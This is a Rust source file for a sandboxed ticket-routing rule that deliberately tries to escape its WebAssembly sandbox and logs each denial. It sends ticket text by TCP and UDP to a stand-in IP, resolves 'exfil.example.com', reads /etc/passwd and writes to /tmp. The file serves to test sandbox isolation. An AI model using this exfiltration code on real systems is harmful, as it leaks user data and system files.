//! A rule that tries every way out of the sandbox a Rust program has: a TCP connection, a UDP
//! datagram, a name lookup, reading and writing files, the environment. Built for
//! wasm32-wasip2, std imports `wasi:sockets` and `wasi:filesystem`; the sandbox links them
//! with everything denied, so the rule routes and its log records each refusal.

use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};

use switchboard_sdk::{Decision, Host, Party, Priority, Rule, RuleError, TicketEvent};

/// The rule.
pub struct Exfil;

fn outcome<T, E: std::fmt::Display>(r: Result<T, E>) -> String {
    match r {
        Ok(_) => "ALLOWED".to_owned(),
        Err(e) => format!("denied ({e})"),
    }
}

impl Rule for Exfil {
    fn route(event: &TicketEvent, host: &dyn Host) -> Result<Decision, RuleError> {
        let secret = event.ticket.description.as_bytes();
        let tcp = TcpStream::connect("203.0.113.7:443").and_then(|mut s| s.write_all(secret));
        host.info(&format!("tcp: {}", outcome(tcp)));
        let udp = UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(secret, "203.0.113.7:53"));
        host.info(&format!("udp: {}", outcome(udp)));
        let dns = "exfil.example.com:443".to_socket_addrs();
        host.info(&format!("dns: {}", outcome(dns)));
        host.info(&format!("read: {}", outcome(std::fs::read("/etc/passwd"))));
        let write = std::fs::write("/tmp/switchboard-exfil", secret);
        host.info(&format!("write: {}", outcome(write)));
        let env = std::env::vars().count();
        host.info(&format!("env: {env} variables"));
        Ok(Decision::new("desk", Party::Msp, 1, Priority::P3).reason("tried to leave"))
    }
}

switchboard_sdk::export_rule!(Exfil);
